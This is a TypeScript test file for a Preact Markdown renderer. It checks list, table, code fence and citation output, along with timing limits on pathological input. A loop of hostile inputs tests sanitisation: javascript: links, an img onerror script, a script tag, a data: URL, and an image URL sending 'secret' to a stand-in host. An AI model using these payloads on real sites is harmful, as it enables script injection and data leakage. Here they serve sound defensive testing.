import assert from "node:assert/strict";
import { test } from "node:test";

import type { ComponentChildren, VNode } from "preact";

import { Markdown } from "../src/view/markdown";

/** Nodes as text: `<p>`, `<li>`... with nothing else of them. */
function shown(node: ComponentChildren): string {
  if (Array.isArray(node)) return node.map(shown).join("");
  if (node === null || node === undefined || typeof node === "boolean") return "";
  if (typeof node !== "object") return String(node).replaceAll("<", "‹");
  const { type, props } = node as VNode<{ children?: ComponentChildren }>;
  const inner = shown(props.children);
  return typeof type === "string" ? `<${type}>${inner}</${type}>` : inner;
}

function rendered(text: string): string {
  return shown(Markdown({ text, cite: (marker) => (marker === 1 ? <sup>{marker}</sup> : null) }));
}

for (const [name, text, wanted] of [
  ["paragraphs", "One\nline.\n\nTwo.", "<p>One\nline.</p><p>Two.</p>"],
  ["a nested list", "- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"],
  ["a numbered list", "3. a\n4. b", "<ol><li>a</li><li>b</li></ol>"],
  ["a fence", "```py\nx = '<b>'\n```", "<pre><code>x = '‹b>'</code></pre>"],
  ["a table", "a | b\n--|--\n1 | 2", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"],
  ["a known citation", "So [1].", "<p>So\u00a0<sup>1</sup>.</p>"],
  ["an unknown citation", "So [7].", "<p>So\u00a0[7].</p>"],
  ["strong words and code", "**a** and `b`", "<p><strong>a</strong> and <code>b</code></p>"],
  ["an escaped sign", "2 \\* 3", "<p>2 * 3</p>"],
] as const) test(name, () => assert.equal(rendered(text), wanted));

for (const hostile of [
  "[x](javascript:alert(1))",
  "![x](https://sink.example/?q=secret)",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "[x]( javascript:alert(1) )",
  "**[x](data:text/html,y)**",
]) {
  test(`no address and no element of its own: ${hostile}`, () => {
    const nodes = rendered(hostile).match(/<\/?(?:a|img|script|iframe)>/g);
    assert.equal(nodes, null);
  });
}

for (const sign of ["[", "](x", "**", "`", "![a](", "- ", "| "]) {
  test(`twenty thousand times ${sign} end at once`, () => {
    const began = performance.now();
    rendered(sign.repeat(20_000));
    assert.ok(performance.now() - began < 2_000);
  });
}
